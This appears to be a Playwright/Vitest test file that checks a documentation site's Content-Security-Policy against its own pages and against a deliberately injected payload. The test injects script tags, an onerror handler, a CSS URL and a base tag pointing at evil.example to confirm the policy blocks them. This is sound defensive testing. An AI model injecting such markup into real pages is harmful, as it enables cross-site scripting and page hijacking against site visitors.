import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { noteRefusals } from './held.ts';
import { pages, type Site, servedSite } from './site.ts';
import { plainSmallSite } from './small-site.ts';
import { settled } from './tab.ts';
import { thinOut } from './thin-out.ts';

/* The Content-Security-Policy: it stops what was smuggled in, and nothing else. */

const site = servedSite();
const small = servedSite(plainSmallSite);

/** Opens a page; returns also the hosts that it asks. */
async function watched(on: Site, url: string) {
  const hosts = new Set<string>();
  const opened = await on.open(url, {
    before: async (page) => {
      page.on('request', (request) => hosts.add(new URL(request.url()).host));
      await page.addInitScript(noteRefusals);
    },
  });
  return { ...opened, hosts };
}

const refused = (page: Page) => page.evaluate<string[]>('window.refused');

/** Shows every kind of part of a page: to the end, unfolded, in another colour mode. */
async function lookThrough(page: Page): Promise<void> {
  // Unfolded, the reference of an API is a hundred windows high. Before that, its parts are laid out in vain.
  await thinOut(page, '#_content *:not(pre *)');
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true;
    window.scrollTo(0, document.body.scrollHeight);
  });
  await page.locator('.colour-mode').click();
  await settled(page);
}

const routes = [...Object.values(pages), '/toolhive/guides-cli/run-mcp-servers', '/no/such/page'];
const smallRoutes = ['/docs/', '/docs/hive/reference/api', '/docs/hive/guides/start', '/docs/search?q=cell'];

it.each([...routes.map((url) => [url, site] as const), ...smallRoutes.map((url) => [url, small] as const)])(
  'the policy blocks nothing of %s, which asks no other host',
  async (url, on) => {
    const { page, problems, hosts } = await watched(on, url);
    await lookThrough(page);
    expect([...problems, ...(await refused(page))]).toEqual([]);
    expect(hosts).toEqual(new Set([new URL(on.url).host]));
  },
);

const attack =
  '<script>window.attacked = "script"</script><img src="/none.png" onerror="window.attacked = \'handler\'">' +
  '<style>h1 { background: url(https://evil.example/x.png) }</style>' +
  '<script src="https://evil.example/x.js"></script><base href="https://evil.example/">';

it.each([
  ['with the header', (headers: Record<string, string>) => headers],
  ['in the document alone', ({ 'content-security-policy': _, ...headers }: Record<string, string>) => headers],
])('the policy %s stops what was smuggled into a page', async (_name, change) => {
  const outside: string[] = [];
  const { page } = await site.open(pages.command, {
    before: async (opening) => {
      await opening.addInitScript(noteRefusals);
      await opening.route('https://evil.example/**', (route) => {
        outside.push(route.request().url());
        return route.fulfill({ contentType: 'text/javascript', body: 'window.attacked = "file"' });
      });
      await opening.route(`**${pages.command}`, async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace('<main', `${attack}<main`);
        await route.fulfill({ response, headers: change(response.headers()), body });
      });
    },
  });
  expect(await page.evaluate('window.attacked')).toBeUndefined();
  expect(outside).toEqual([]);
  const directives = (await refused(page)).map((text) => text.split(' ', 1)[0]);
  expect(new Set(directives)).toEqual(new Set(['script-src-elem', 'script-src-attr', 'img-src', 'base-uri']));
});
